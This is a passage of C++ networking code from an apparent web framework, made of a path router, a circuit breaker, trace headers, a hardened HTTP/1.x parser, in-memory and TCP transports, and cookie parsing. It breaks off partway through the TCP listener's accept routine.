#include <vector>

#include "net/http.h"

namespace w5::net {

using RouteParams = std::map<std::string, std::string>;

using RouteHandler =
    std::function<HttpResponse(const HttpRequest&, const RouteParams&)>;

class Router {
 public:
  // Patterns are validated eagerly; a malformed pattern is a programming
  // error and throws std::invalid_argument.
  void add(Method method, const std::string& pattern, RouteHandler handler);

  struct Match {
    const RouteHandler* handler = nullptr;
    RouteParams params;
    // The matched route's pattern text (e.g. "/data/:collection/:id") —
    // what telemetry records instead of the raw target, so captured
    // values never reach metric names or traces. Points into the router;
    // valid while no routes are added.
    const std::string* pattern = nullptr;
    // Registration-order index of the matched route, so callers can key
    // per-route state (hit counters) with one array lookup.
    std::size_t route_index = kNoRoute;
  };

  static constexpr std::size_t kNoRoute = static_cast<std::size_t>(-1);

  // Returns the first route whose pattern matches; registration order is
  // priority order.
  std::optional<Match> match(Method method,
                             const std::vector<std::string>& segments) const;

  // Full dispatch with 404/405 defaults. When matched_pattern is non-null
  // it receives the matched route's pattern text ("" on 404/405).
  HttpResponse dispatch(const HttpRequest& request,
                        std::string* matched_pattern = nullptr) const;

  // Allocation-free variant for the telemetry hot path: *matched_pattern
  // receives a pointer to the matched route's stored pattern (nullptr on
  // 404/405) — stable while no routes are added — and *route_index the
  // matched route's registration index (kNoRoute on 404/405).
  HttpResponse dispatch(const HttpRequest& request,
                        const std::string** matched_pattern,
                        std::size_t* route_index = nullptr) const;

  std::size_t route_count() const noexcept { return routes_.size(); }

  // Pattern text of the i-th registered route (registration order). The
  // returned pointer is stable while no routes are added.
  const std::string* route_pattern(std::size_t i) const {
    return &routes_[i].text;
  }

 private:
  struct Segment {
    enum class Kind { kLiteral, kParam, kWildcard } kind = Kind::kLiteral;
    std::string text;  // literal value or capture name
  };
  struct Route {
    Method method;
    std::string text;  // original pattern, reported through Match
    std::vector<Segment> pattern;
    RouteHandler handler;
  };

  static std::vector<Segment> compile(const std::string& pattern);
  static bool try_match(const Route& route,
                        const std::vector<std::string>& segments,
                        RouteParams& params);

  std::vector<Route> routes_;
};

}  // namespace w5::net
