// Path router with parameter captures.
//
// Routes use the W5 URL scheme from the paper (§2): fixed segments,
// ":name" captures one segment, "*rest" captures the remainder. E.g.
//   GET /dev/:developer/:app        — module invocation
//   GET /dev/:developer/:app/*path — module sub-resources
#pragma once

#include <functional>
#include <map>
#include <optional>
#include <string>
#include <vector>

#include "net/http.h"

namespace w5::net {

using RouteParams = std::map<std::string, std::string>;

using RouteHandler =
    std::function<HttpResponse(const HttpRequest&, const RouteParams&)>;

class Router {
 public:
  // Patterns are validated eagerly; a malformed pattern is a programming
  // error and throws std::invalid_argument.
  void add(Method method, const std::string& pattern, RouteHandler handler);

  struct Match {
    const RouteHandler* handler = nullptr;
    RouteParams params;
  };

  // Returns the first route whose pattern matches; registration order is
  // priority order.
  std::optional<Match> match(Method method,
                             const std::vector<std::string>& segments) const;

  // Full dispatch with 404/405 defaults.
  HttpResponse dispatch(const HttpRequest& request) const;

  std::size_t route_count() const noexcept { return routes_.size(); }

 private:
  struct Segment {
    enum class Kind { kLiteral, kParam, kWildcard } kind = Kind::kLiteral;
    std::string text;  // literal value or capture name
  };
  struct Route {
    Method method;
    std::vector<Segment> pattern;
    RouteHandler handler;
  };

  static std::vector<Segment> compile(const std::string& pattern);
  static bool try_match(const Route& route,
                        const std::vector<std::string>& segments,
                        RouteParams& params);

  std::vector<Route> routes_;
};

}  // namespace w5::net
