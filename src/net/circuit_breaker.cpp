#include "net/circuit_breaker.h"

namespace w5::net {

void CircuitBreaker::refresh_locked(util::Micros now) {
  if (state_ == State::kOpen && now - opened_at_ >= config_.open_cooldown) {
    state_ = State::kHalfOpen;
    probes_in_flight_ = 0;
  }
}

bool CircuitBreaker::allow() {
  const util::MutexLock lock(mutex_);
  refresh_locked(clock_.now());
  switch (state_) {
    case State::kClosed:
      return true;
    case State::kHalfOpen:
      if (probes_in_flight_ < config_.half_open_probes) {
        ++probes_in_flight_;
        return true;
      }
      ++rejected_;
      return false;
    case State::kOpen:
      ++rejected_;
      return false;
  }
  return false;
}

void CircuitBreaker::record_success() {
  const util::MutexLock lock(mutex_);
  state_ = State::kClosed;
  failures_ = 0;
  probes_in_flight_ = 0;
}

void CircuitBreaker::record_failure() {
  const util::MutexLock lock(mutex_);
  if (state_ == State::kHalfOpen) {
    // The probe failed: straight back to open, cooldown restarts.
    state_ = State::kOpen;
    opened_at_ = clock_.now();
    probes_in_flight_ = 0;
    return;
  }
  if (state_ == State::kClosed &&
      ++failures_ >= config_.failure_threshold) {
    state_ = State::kOpen;
    opened_at_ = clock_.now();
  }
}

CircuitBreaker::State CircuitBreaker::state() const {
  const util::MutexLock lock(mutex_);
  // const_cast-free: recompute the cooldown transition without mutating.
  if (state_ == State::kOpen &&
      clock_.now() - opened_at_ >= config_.open_cooldown)
    return State::kHalfOpen;
  return state_;
}

int CircuitBreaker::consecutive_failures() const {
  const util::MutexLock lock(mutex_);
  return failures_;
}

std::uint64_t CircuitBreaker::rejected_total() const {
  const util::MutexLock lock(mutex_);
  return rejected_;
}

}  // namespace w5::net
