#include "net/tracing.h"

#include <utility>

#include "net/http.h"
#include "util/lock_ranks.h"
#include "util/thread_annotations.h"

namespace w5::net {

namespace {

// The provider is installed once at startup (first Provider construction)
// and read on every outbound request; a mutex-guarded shared_ptr-free
// design is fine because installation happens-before serving in every
// composition we ship, and the mutex cost is off the serving fast path
// (one outbound hop per federation pull, not per request).
util::Mutex g_provider_mutex{util::lockrank::kNetTraceProvider,
                             "tracing::g_provider_mutex"};
TraceProvider g_provider;

}  // namespace

bool valid_trace_token(std::string_view token) {
  if (token.empty() || token.size() > 64) return false;
  for (const char c : token) {
    const bool ok = (c >= '0' && c <= '9') || (c >= 'a' && c <= 'z') ||
                    (c >= 'A' && c <= 'Z') || c == '_' || c == '-';
    if (!ok) return false;
  }
  return true;
}

void set_outbound_trace_provider(TraceProvider provider) {
  const util::MutexLock lock(g_provider_mutex);
  g_provider = std::move(provider);
}

bool outbound_trace_headers(TraceHeaders* out) {
  TraceProvider provider;
  {
    const util::MutexLock lock(g_provider_mutex);
    provider = g_provider;
  }
  if (!provider) return false;
  return provider(out);
}

void stamp_trace_echo(HttpResponse& response,
                      const Headers& request_headers) {
  const auto trace = request_headers.get(kTraceHeader);
  if (trace && valid_trace_token(*trace))
    response.headers.set(std::string(kTraceHeader), *trace);
}

}  // namespace w5::net
