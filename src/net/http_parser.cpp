#include "net/http_parser.h"

#include "util/strings.h"

namespace w5::net {

namespace detail {

void MessageParser::fail(std::string code, std::string detail) {
  state_ = ParseState::kError;
  error_ = util::make_error(std::move(code), std::move(detail));
}

// Appends bytes to partial_line_ until a CRLF-terminated line is ready.
// Returns true when a full line (without CRLF) is in line_out.
bool MessageParser::consume_line(std::string_view& data,
                                 std::string& line_out) {
  while (!data.empty()) {
    const char c = data.front();
    data.remove_prefix(1);
    if (++header_bytes_ > limits_.max_headers_bytes) {
      fail("http.headers_too_large", "header block exceeds limit");
      return false;
    }
    if (c == '\n') {
      if (partial_line_.empty() || partial_line_.back() != '\r') {
        fail("http.parse", "bare LF in message framing");
        return false;
      }
      partial_line_.pop_back();
      line_out = std::move(partial_line_);
      partial_line_.clear();
      return true;
    }
    partial_line_.push_back(c);
    if (partial_line_.size() > limits_.max_line_bytes) {
      fail("http.headers_too_large", "line exceeds limit");
      return false;
    }
  }
  return false;  // need more input
}

void MessageParser::finish_headers() {
  // Refuse Transfer-Encoding outright: the gateway buffers and labels
  // whole messages, and rejecting chunked removes smuggling ambiguity.
  if (headers_storage_.contains("Transfer-Encoding")) {
    fail("http.unsupported", "Transfer-Encoding not accepted");
    return;
  }
  const auto lengths = headers_storage_.get_all("Content-Length");
  std::size_t expected = 0;
  if (!lengths.empty()) {
    auto first = util::parse_u64(lengths.front());
    if (!first) {
      fail("http.parse", "malformed Content-Length");
      return;
    }
    for (const auto& other : lengths) {
      if (other != lengths.front()) {
        fail("http.parse", "conflicting Content-Length headers");
        return;
      }
    }
    expected = static_cast<std::size_t>(*first);
  }
  if (expected > limits_.max_body_bytes) {
    fail("http.too_large", "declared body exceeds limit");
    return;
  }
  body_expected_ = expected;
  body_.clear();
  body_.reserve(expected);
  if (body_expected_ == 0) {
    state_ = ParseState::kComplete;
    on_complete();
  } else {
    state_ = ParseState::kBody;
  }
}

std::size_t MessageParser::feed(std::string_view data) {
  const std::size_t total = data.size();
  while (!data.empty() && state_ != ParseState::kComplete &&
         state_ != ParseState::kError) {
    switch (state_) {
      case ParseState::kStartLine: {
        std::string line;
        if (!consume_line(data, line)) break;
        if (line.empty()) continue;  // tolerate leading empty lines
        if (!on_start_line(line)) {
          if (state_ != ParseState::kError)
            fail("http.parse", "malformed start line");
          break;
        }
        state_ = ParseState::kHeaders;
        break;
      }
      case ParseState::kHeaders: {
        std::string line;
        if (!consume_line(data, line)) break;
        if (line.empty()) {
          finish_headers();
          break;
        }
        if (line.front() == ' ' || line.front() == '\t') {
          fail("http.parse", "obsolete header folding rejected");
          break;
        }
        const std::size_t colon = line.find(':');
        if (colon == std::string::npos || colon == 0) {
          fail("http.parse", "header without name/colon");
          break;
        }
        std::string name = line.substr(0, colon);
        if (name.back() == ' ' || name.back() == '\t') {
          fail("http.parse", "whitespace before header colon");
          break;
        }
        if (++header_count_ > limits_.max_header_count) {
          fail("http.headers_too_large", "too many headers");
          break;
        }
        headers_storage_.add(
            std::move(name),
            std::string(util::trim(std::string_view(line).substr(colon + 1))));
        break;
      }
      case ParseState::kBody: {
        const std::size_t want = body_expected_ - body_.size();
        const std::size_t take = std::min(want, data.size());
        body_.append(data.substr(0, take));
        data.remove_prefix(take);
        if (body_.size() == body_expected_) {
          state_ = ParseState::kComplete;
          on_complete();
        }
        break;
      }
      case ParseState::kComplete:
      case ParseState::kError:
        break;
    }
  }
  return total - data.size();
}

}  // namespace detail

RequestParser::RequestParser(ParserLimits limits)
    : MessageParser(limits), limits_(limits) {}

bool RequestParser::on_start_line(std::string_view line) {
  // method SP request-target SP HTTP-version
  const std::size_t sp1 = line.find(' ');
  if (sp1 == std::string_view::npos) return false;
  const std::size_t sp2 = line.find(' ', sp1 + 1);
  if (sp2 == std::string_view::npos || line.find(' ', sp2 + 1) != std::string_view::npos)
    return false;

  const auto method = method_from_string(line.substr(0, sp1));
  if (!method) {
    fail("http.unsupported", "unknown method");
    return false;
  }
  const std::string_view version = line.substr(sp2 + 1);
  if (version != "HTTP/1.1" && version != "HTTP/1.0") {
    fail("http.unsupported", "unsupported HTTP version");
    return false;
  }
  const std::string_view target = line.substr(sp1 + 1, sp2 - sp1 - 1);
  auto parsed = parse_request_target(target);
  if (!parsed) {
    fail("http.parse", "malformed request target");
    return false;
  }
  request_.method = *method;
  request_.target = std::string(target);
  request_.parsed = std::move(*parsed);
  return true;
}

void RequestParser::on_complete() {
  request_.headers = take_headers();
  request_.body = take_body();
}

HttpRequest RequestParser::take() {
  HttpRequest out = std::move(request_);
  reset();
  return out;
}

void RequestParser::reset() {
  *this = RequestParser(limits_);
}

ResponseParser::ResponseParser(ParserLimits limits)
    : MessageParser(limits), limits_(limits) {}

bool ResponseParser::on_start_line(std::string_view line) {
  // HTTP-version SP status-code SP reason-phrase
  const std::size_t sp1 = line.find(' ');
  if (sp1 == std::string_view::npos) return false;
  const std::string_view version = line.substr(0, sp1);
  if (version != "HTTP/1.1" && version != "HTTP/1.0") {
    fail("http.unsupported", "unsupported HTTP version");
    return false;
  }
  const std::size_t sp2 = line.find(' ', sp1 + 1);
  const std::string_view code =
      sp2 == std::string_view::npos
          ? line.substr(sp1 + 1)
          : line.substr(sp1 + 1, sp2 - sp1 - 1);
  const auto status = util::parse_u64(code);
  if (!status || *status < 100 || *status > 599) {
    fail("http.parse", "bad status code");
    return false;
  }
  response_.status = static_cast<int>(*status);
  return true;
}

void ResponseParser::on_complete() {
  response_.headers = take_headers();
  response_.body = take_body();
}

HttpResponse ResponseParser::take() {
  HttpResponse out = std::move(response_);
  reset();
  return out;
}

void ResponseParser::reset() {
  *this = ResponseParser(limits_);
}

}  // namespace w5::net
