#include "net/router.h"

#include <stdexcept>

#include "util/strings.h"

namespace w5::net {

std::vector<Router::Segment> Router::compile(const std::string& pattern) {
  if (pattern.empty() || pattern[0] != '/')
    throw std::invalid_argument("route pattern must start with '/'");
  std::vector<Segment> out;
  const auto parts = util::split_nonempty(pattern, '/');
  for (std::size_t i = 0; i < parts.size(); ++i) {
    const std::string& part = parts[i];
    if (part[0] == ':') {
      if (part.size() == 1)
        throw std::invalid_argument("':' capture needs a name");
      out.push_back({Segment::Kind::kParam, part.substr(1)});
    } else if (part[0] == '*') {
      if (part.size() == 1)
        throw std::invalid_argument("'*' capture needs a name");
      if (i + 1 != parts.size())
        throw std::invalid_argument("'*' capture must be last");
      out.push_back({Segment::Kind::kWildcard, part.substr(1)});
    } else {
      out.push_back({Segment::Kind::kLiteral, part});
    }
  }
  return out;
}

void Router::add(Method method, const std::string& pattern,
                 RouteHandler handler) {
  routes_.push_back(Route{method, pattern, compile(pattern),
                          std::move(handler)});
}

bool Router::try_match(const Route& route,
                       const std::vector<std::string>& segments,
                       RouteParams& params) {
  std::size_t i = 0;
  for (const Segment& seg : route.pattern) {
    switch (seg.kind) {
      case Segment::Kind::kLiteral:
        if (i >= segments.size() || segments[i] != seg.text) return false;
        ++i;
        break;
      case Segment::Kind::kParam:
        if (i >= segments.size()) return false;
        params[seg.text] = segments[i];
        ++i;
        break;
      case Segment::Kind::kWildcard: {
        // Captures the rest (possibly empty), joined with '/'.
        std::vector<std::string> rest(segments.begin() +
                                          static_cast<std::ptrdiff_t>(i),
                                      segments.end());
        params[seg.text] = util::join(rest, "/");
        i = segments.size();
        return true;
      }
    }
  }
  return i == segments.size();
}

std::optional<Router::Match> Router::match(
    Method method, const std::vector<std::string>& segments) const {
  for (std::size_t i = 0; i < routes_.size(); ++i) {
    const Route& route = routes_[i];
    if (route.method != method) continue;
    RouteParams params;
    if (try_match(route, segments, params))
      return Match{&route.handler, std::move(params), &route.text, i};
  }
  return std::nullopt;
}

HttpResponse Router::dispatch(const HttpRequest& request,
                              std::string* matched_pattern) const {
  const std::string* pattern = nullptr;
  HttpResponse response = dispatch(request, &pattern);
  if (matched_pattern != nullptr)
    *matched_pattern = pattern != nullptr ? *pattern : std::string{};
  return response;
}

HttpResponse Router::dispatch(const HttpRequest& request,
                              const std::string** matched_pattern,
                              std::size_t* route_index) const {
  if (matched_pattern != nullptr) *matched_pattern = nullptr;
  if (route_index != nullptr) *route_index = kNoRoute;
  if (auto found = match(request.method, request.parsed.segments)) {
    if (matched_pattern != nullptr) *matched_pattern = found->pattern;
    if (route_index != nullptr) *route_index = found->route_index;
    return (*found->handler)(request, found->params);
  }
  // Distinguish 405 from 404: does any route match the path under a
  // different method?
  for (const Route& route : routes_) {
    RouteParams ignored;
    if (route.method != request.method &&
        try_match(route, request.parsed.segments, ignored)) {
      return HttpResponse::text(405, "method not allowed\n");
    }
  }
  return HttpResponse::text(404, "not found\n");
}

}  // namespace w5::net
