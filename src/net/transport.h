// Byte transports under the HTTP layer.
//
// Connection is the minimal blocking-ish stream interface; the in-memory
// implementation gives tests and benches a deterministic, scheduler-free
// wire. Real TCP lives in tcp.h behind the same interface.
#pragma once

#include <cstddef>
#include <deque>
#include <functional>
#include <memory>
#include <string>
#include <string_view>
#include <unordered_map>

#include "util/clock.h"
#include "util/result.h"

namespace w5::net {

class Connection {
 public:
  virtual ~Connection() = default;

  // Reads up to max bytes. Returns:
  //   ok(n > 0)  — n bytes copied into buf
  //   ok(0)      — clean EOF (peer closed and drained)
  //   error("net.would_block") — no data available right now
  //   error("net.timeout")     — a configured read deadline elapsed
  //   error(...) — transport failure
  virtual util::Result<std::size_t> read(char* buf, std::size_t max) = 0;

  // Writes everything or fails; a configured write deadline that elapses
  // mid-send surfaces as error("net.timeout"), distinct from "net.io".
  virtual util::Status write(std::string_view data) = 0;

  // Non-blocking-friendly write for event-driven callers: writes what the
  // transport will take *right now* and returns the count. Returns:
  //   ok(n > 0) — n bytes accepted (possibly fewer than asked)
  //   ok(0)     — transport would block; wait for writability and retry
  //   error(...) — transport failure
  // The default forwards to write() (all-or-error), which suits the
  // blocking and in-memory transports; TcpConnection overrides with a
  // single EAGAIN-aware send(2).
  virtual util::Result<std::size_t> write_some(std::string_view data);

  // Scatter/gather variant of write_some: the buffers are one logical
  // stream (e.g. response head + body) written without concatenating.
  // Same return contract; a short count may end mid-buffer. The default
  // loops write_some; TcpConnection overrides with writev(2).
  virtual util::Result<std::size_t> writev_some(const std::string_view* iov,
                                                std::size_t iov_count);

  virtual void close() = 0;
  virtual bool closed() const = 0;

  // Per-operation I/O deadlines (0 = block forever, the default). The
  // in-memory transports are non-blocking by construction and ignore
  // these; TcpConnection enforces them with poll(2). Decorators
  // (FaultyConnection) forward them to the wrapped transport.
  virtual void set_read_timeout(util::Micros) {}
  virtual void set_write_timeout(util::Micros) {}

  // Reads everything currently available (helper on top of read()).
  util::Result<std::string> read_available(std::size_t max = 64 * 1024);
};

// ---- In-memory transport ---------------------------------------------------

// A bidirectional in-memory pipe; make_pipe returns the two ends.
// Single-threaded by design: reads see everything written before the call.
std::pair<std::unique_ptr<Connection>, std::unique_ptr<Connection>>
make_pipe();

// A tiny "internet" for multi-host simulations (federation): servers
// register an accept callback under an address; dial() creates a pipe and
// hands the far end to the server.
class InMemoryNetwork {
 public:
  using AcceptFn = std::function<void(std::unique_ptr<Connection>)>;
  // Invoked by pump(): the listener should service whatever request bytes
  // its accepted connections have accumulated. Needed because the
  // in-memory transport is single-threaded — a dialer writes its request
  // and then pumps the server instead of blocking on a second thread.
  using PumpFn = std::function<void()>;

  void listen(const std::string& address, AcceptFn on_accept,
              PumpFn on_pump = nullptr);
  void unlisten(const std::string& address);

  util::Result<std::unique_ptr<Connection>> dial(const std::string& address);

  // Runs the listener's pump hook (no-op status when none registered).
  util::Status pump(const std::string& address);

 private:
  struct Listener {
    AcceptFn on_accept;
    PumpFn on_pump;
  };
  std::unordered_map<std::string, Listener> listeners_;
};

}  // namespace w5::net
