#include "net/transport.h"

namespace w5::net {

util::Result<std::size_t> Connection::write_some(std::string_view data) {
  auto written = write(data);
  if (!written.ok()) return written.error();
  return data.size();
}

util::Result<std::size_t> Connection::writev_some(const std::string_view* iov,
                                                  std::size_t iov_count) {
  std::size_t total = 0;
  for (std::size_t i = 0; i < iov_count; ++i) {
    if (iov[i].empty()) continue;
    auto n = write_some(iov[i]);
    if (!n.ok()) return total > 0 ? util::Result<std::size_t>(total)
                                  : util::Result<std::size_t>(n.error());
    total += n.value();
    if (n.value() < iov[i].size()) break;  // transport is full for now
  }
  return total;
}

util::Result<std::string> Connection::read_available(std::size_t max) {
  std::string out;
  char buf[4096];
  while (out.size() < max) {
    const std::size_t want = std::min(sizeof(buf), max - out.size());
    auto n = read(buf, want);
    if (!n.ok()) {
      if (n.error().code == "net.would_block" && !out.empty()) return out;
      if (n.error().code == "net.would_block")
        return n.error();  // nothing at all
      return n.error();
    }
    if (n.value() == 0) return out;  // EOF; possibly empty
    out.append(buf, n.value());
    if (n.value() < want) return out;  // drained for now
  }
  return out;
}

namespace {

// Shared state of one direction of the pipe.
struct PipeBuffer {
  std::deque<char> bytes;
  bool writer_closed = false;
};

class PipeConnection final : public Connection {
 public:
  PipeConnection(std::shared_ptr<PipeBuffer> incoming,
                 std::shared_ptr<PipeBuffer> outgoing)
      : incoming_(std::move(incoming)), outgoing_(std::move(outgoing)) {}

  ~PipeConnection() override { PipeConnection::close(); }

  util::Result<std::size_t> read(char* buf, std::size_t max) override {
    if (max == 0) return std::size_t{0};
    if (incoming_->bytes.empty()) {
      if (incoming_->writer_closed) return std::size_t{0};  // EOF
      return util::make_error("net.would_block", "pipe empty");
    }
    const std::size_t take = std::min(max, incoming_->bytes.size());
    for (std::size_t i = 0; i < take; ++i) {
      buf[i] = incoming_->bytes.front();
      incoming_->bytes.pop_front();
    }
    return take;
  }

  util::Status write(std::string_view data) override {
    if (closed_) return util::make_error("net.closed", "write on closed end");
    if (outgoing_->writer_closed)
      return util::make_error("net.closed", "peer direction closed");
    outgoing_->bytes.insert(outgoing_->bytes.end(), data.begin(), data.end());
    return util::ok_status();
  }

  void close() override {
    if (closed_) return;
    closed_ = true;
    outgoing_->writer_closed = true;
  }

  bool closed() const override { return closed_; }

 private:
  std::shared_ptr<PipeBuffer> incoming_;
  std::shared_ptr<PipeBuffer> outgoing_;
  bool closed_ = false;
};

}  // namespace

std::pair<std::unique_ptr<Connection>, std::unique_ptr<Connection>>
make_pipe() {
  auto a_to_b = std::make_shared<PipeBuffer>();
  auto b_to_a = std::make_shared<PipeBuffer>();
  return {std::make_unique<PipeConnection>(b_to_a, a_to_b),
          std::make_unique<PipeConnection>(a_to_b, b_to_a)};
}

void InMemoryNetwork::listen(const std::string& address, AcceptFn on_accept,
                             PumpFn on_pump) {
  listeners_[address] = Listener{std::move(on_accept), std::move(on_pump)};
}

void InMemoryNetwork::unlisten(const std::string& address) {
  listeners_.erase(address);
}

util::Status InMemoryNetwork::pump(const std::string& address) {
  const auto it = listeners_.find(address);
  if (it == listeners_.end()) {
    return util::make_error("net.unreachable",
                            "no listener at '" + address + "'");
  }
  if (it->second.on_pump) it->second.on_pump();
  return util::ok_status();
}

util::Result<std::unique_ptr<Connection>> InMemoryNetwork::dial(
    const std::string& address) {
  const auto it = listeners_.find(address);
  if (it == listeners_.end()) {
    return util::make_error("net.unreachable",
                            "no listener at '" + address + "'");
  }
  auto [client_end, server_end] = make_pipe();
  it->second.on_accept(std::move(server_end));
  return std::move(client_end);
}

}  // namespace w5::net
