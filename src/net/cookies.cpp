#include "net/cookies.h"

#include "util/strings.h"

namespace w5::net {

namespace {

bool valid_token_char(char c) {
  // RFC 2616 token characters (cookie-name).
  static constexpr std::string_view kSeparators = "()<>@,;:\\\"/[]?={} \t";
  const auto b = static_cast<unsigned char>(c);
  return b > 0x20 && b < 0x7f && kSeparators.find(c) == std::string_view::npos;
}

bool valid_cookie_value_char(char c) {
  const auto b = static_cast<unsigned char>(c);
  return b == 0x21 || (b >= 0x23 && b <= 0x2b) || (b >= 0x2d && b <= 0x3a) ||
         (b >= 0x3c && b <= 0x5b) || (b >= 0x5d && b <= 0x7e);
}

bool valid_name(std::string_view name) {
  if (name.empty()) return false;
  for (char c : name)
    if (!valid_token_char(c)) return false;
  return true;
}

bool valid_value(std::string_view value) {
  for (char c : value)
    if (!valid_cookie_value_char(c)) return false;
  return true;
}

}  // namespace

std::vector<std::pair<std::string, std::string>> parse_cookie_header(
    std::string_view header) {
  std::vector<std::pair<std::string, std::string>> out;
  for (const auto& piece : util::split(header, ';')) {
    const std::string_view pair = util::trim(piece);
    if (pair.empty()) continue;
    const std::size_t eq = pair.find('=');
    if (eq == std::string_view::npos || eq == 0) continue;
    std::string_view name = pair.substr(0, eq);
    std::string_view value = pair.substr(eq + 1);
    // Strip optional double quotes around the value.
    if (value.size() >= 2 && value.front() == '"' && value.back() == '"')
      value = value.substr(1, value.size() - 2);
    if (!valid_name(name) || !valid_value(value)) continue;
    out.emplace_back(std::string(name), std::string(value));
  }
  return out;
}

std::optional<std::string> cookie_get(
    const std::vector<std::pair<std::string, std::string>>& cookies,
    std::string_view name) {
  for (const auto& [key, value] : cookies)
    if (key == name) return value;
  return std::nullopt;
}

std::optional<std::string> SetCookie::to_header() const {
  if (!valid_name(name) || !valid_value(value)) return std::nullopt;
  std::string out = name + "=" + value;
  if (!path.empty()) out += "; Path=" + path;
  if (max_age_seconds >= 0)
    out += "; Max-Age=" + std::to_string(max_age_seconds);
  if (http_only) out += "; HttpOnly";
  if (secure) out += "; Secure";
  return out;
}

}  // namespace w5::net
