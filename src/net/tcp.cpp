#include "net/tcp.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>

namespace w5::net {

namespace {

util::Error errno_error(const char* what) {
  return util::make_error("net.io",
                          std::string(what) + ": " + std::strerror(errno));
}

util::Status fd_set_nonblocking(int fd) {
  const int flags = ::fcntl(fd, F_GETFL, 0);
  if (flags < 0) return errno_error("fcntl(F_GETFL)");
  if (::fcntl(fd, F_SETFL, flags | O_NONBLOCK) != 0)
    return errno_error("fcntl(F_SETFL)");
  return util::ok_status();
}

}  // namespace

TcpConnection::~TcpConnection() { TcpConnection::close(); }

util::Result<bool> TcpConnection::wait_ready(short events,
                                             util::Micros timeout) {
  pollfd pfd{};
  pfd.fd = fd_;
  pfd.events = events;
  // Round up so a 1-µs deadline still polls for 1 ms rather than
  // spinning; no deadline (0) blocks until ready.
  const int millis =
      timeout > 0 ? static_cast<int>((timeout + 999) / 1000) : -1;
  while (true) {
    const int ready = ::poll(&pfd, 1, millis);
    if (ready > 0) return true;  // readable/writable, or HUP/ERR — let
                                 // recv/send report the specific failure
    if (ready == 0) return false;
    if (errno == EINTR) continue;
    return errno_error("poll");
  }
}

util::Result<std::size_t> TcpConnection::read(char* buf, std::size_t max) {
  if (fd_ < 0) return util::make_error("net.closed", "read on closed socket");
  if (read_timeout_ > 0) {
    auto ready = wait_ready(POLLIN, read_timeout_);
    if (!ready.ok()) return ready.error();
    if (!ready.value())
      return util::make_error("net.timeout", "read deadline elapsed");
  }
  while (true) {
    const ssize_t n = ::recv(fd_, buf, max, 0);
    if (n >= 0) return static_cast<std::size_t>(n);
    if (errno == EINTR) continue;
    if (errno == EAGAIN || errno == EWOULDBLOCK)
      return util::make_error("net.would_block", "no data");
    return errno_error("recv");
  }
}

util::Status TcpConnection::write(std::string_view data) {
  if (fd_ < 0) return util::make_error("net.closed", "write on closed socket");
  while (!data.empty()) {
    if (write_timeout_ > 0) {
      auto ready = wait_ready(POLLOUT, write_timeout_);
      if (!ready.ok()) return ready.error();
      if (!ready.value())
        return util::make_error("net.timeout",
                                "write deadline elapsed (receiver stalled)");
    }
    const ssize_t n = ::send(fd_, data.data(), data.size(), MSG_NOSIGNAL);
    if (n < 0) {
      if (errno == EINTR) continue;
      if (errno == EAGAIN || errno == EWOULDBLOCK) {
        // Kernel send buffer full. Not an I/O failure: wait for
        // writability (or the deadline) and try again.
        auto ready = wait_ready(POLLOUT, write_timeout_);
        if (!ready.ok()) return ready.error();
        if (!ready.value())
          return util::make_error("net.timeout",
                                  "write deadline elapsed (receiver stalled)");
        continue;
      }
      return errno_error("send");
    }
    data.remove_prefix(static_cast<std::size_t>(n));
  }
  return util::ok_status();
}

util::Result<std::size_t> TcpConnection::write_some(std::string_view data) {
  if (fd_ < 0) return util::make_error("net.closed", "write on closed socket");
  if (data.empty()) return std::size_t{0};
  while (true) {
    const ssize_t n = ::send(fd_, data.data(), data.size(), MSG_NOSIGNAL);
    if (n >= 0) return static_cast<std::size_t>(n);
    if (errno == EINTR) continue;
    if (errno == EAGAIN || errno == EWOULDBLOCK) return std::size_t{0};
    if (errno == ECONNRESET || errno == EPIPE)
      return util::make_error("net.reset", "peer reset connection");
    return errno_error("send");
  }
}

util::Result<std::size_t> TcpConnection::writev_some(
    const std::string_view* iov, std::size_t iov_count) {
  if (fd_ < 0) return util::make_error("net.closed", "write on closed socket");
  constexpr std::size_t kMaxIov = 8;
  struct iovec vecs[kMaxIov];
  std::size_t used = 0;
  for (std::size_t i = 0; i < iov_count && used < kMaxIov; ++i) {
    if (iov[i].empty()) continue;
    vecs[used].iov_base = const_cast<char*>(iov[i].data());
    vecs[used].iov_len = iov[i].size();
    ++used;
  }
  if (used == 0) return std::size_t{0};
  while (true) {
    const ssize_t n = ::writev(fd_, vecs, static_cast<int>(used));
    if (n >= 0) return static_cast<std::size_t>(n);
    if (errno == EINTR) continue;
    if (errno == EAGAIN || errno == EWOULDBLOCK) return std::size_t{0};
    if (errno == ECONNRESET || errno == EPIPE)
      return util::make_error("net.reset", "peer reset connection");
    return errno_error("writev");
  }
}

util::Status TcpConnection::set_nonblocking() {
  if (fd_ < 0) return util::make_error("net.closed", "socket closed");
  return fd_set_nonblocking(fd_);
}

void TcpConnection::close() {
  if (fd_ >= 0) {
    ::close(fd_);
    fd_ = -1;
  }
}

TcpListener::~TcpListener() { close(); }

util::Status TcpListener::listen(std::uint16_t port, int backlog) {
  // Re-listen support: drop any socket from a previous (possibly failed)
  // listen() first, or its fd would be overwritten and leak — a provider
  // retrying startup on a busy port must not bleed one fd per attempt.
  close();
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return errno_error("socket");
  fd_.store(fd, std::memory_order_release);
  const int one = 1;
  ::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));

  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(port);
  // On failure, capture errno before close() — shutdown/close clobber it
  // — then release the fd so a retried startup starts from zero sockets.
  if (::bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    const util::Error error = errno_error("bind");
    close();
    return error;
  }
  if (::listen(fd, backlog) != 0) {
    const util::Error error = errno_error("listen");
    close();
    return error;
  }
  socklen_t len = sizeof(addr);
  if (::getsockname(fd, reinterpret_cast<sockaddr*>(&addr), &len) == 0)
    port_ = ntohs(addr.sin_port);
  return util::ok_status();
}

util::Result<std::unique_ptr<Connection>> TcpListener::accept() {
  const int fd = fd_.load(std::memory_order_acquire);
  if (fd < 0) return util::make_error("net.closed", "listener closed");
  while (true) {
    const int client = ::accept(fd, nullptr, nullptr);
    if (client >= 0) {
      // A concurrent close() may have raced the blocking accept; drop
